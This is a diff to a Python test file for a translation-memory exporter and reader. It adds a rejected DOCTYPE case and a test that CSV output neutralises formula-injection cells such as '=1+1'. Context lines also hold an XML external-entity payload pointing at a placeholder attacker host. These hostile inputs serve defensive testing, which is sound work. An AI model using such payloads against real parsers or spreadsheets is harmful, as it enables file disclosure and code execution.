@@ -109,6 +109,7 @@ HOSTILE = {
         tmx(unit("a", "x"), '<!DOCTYPE tmx [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>'),
         "memory_document_type",
     ),
+    "any declaration": (tmx(unit("a", "x"), "<!DOCTYPE tmx [<!ELEMENT tmx ANY>]>"), "memory_document_type"),
     "cut off": (tmx(unit("매출", "Sales"))[:-30], "memory_damaged"),
     "an encoding nobody knows": (
         b'<?xml version="1.0" encoding="klingon"?><tmx/>',
@@ -171,6 +172,12 @@ def test_what_is_written_is_read_again(kind: str) -> None:
     origin = Provenance("a.docx", "kim", datetime(2025, 3, 1, tzinfo=UTC), "가나")
     entries = [Entry(at, Pair(*each), KO_EN, origin) for at, each in enumerate(texts)]
     assert pairs(written(kind, entries), f"a.{kind}") == texts
+
+
+def test_nothing_in_a_csv_file_is_a_formula() -> None:
+    origin = Provenance("+a.docx", "@kim", None, "-가나")
+    lines = written("csv", [Entry(1, Pair("=1+1", "\t2"), KO_EN, origin)]).decode("utf-8-sig")
+    assert lines.splitlines()[1] == "'=1+1,'\t2,'+a.docx,'@kim,,'-가나"
 
 
 def test_tags_survive_tmx_and_a_table_has_plain_text() -> None:
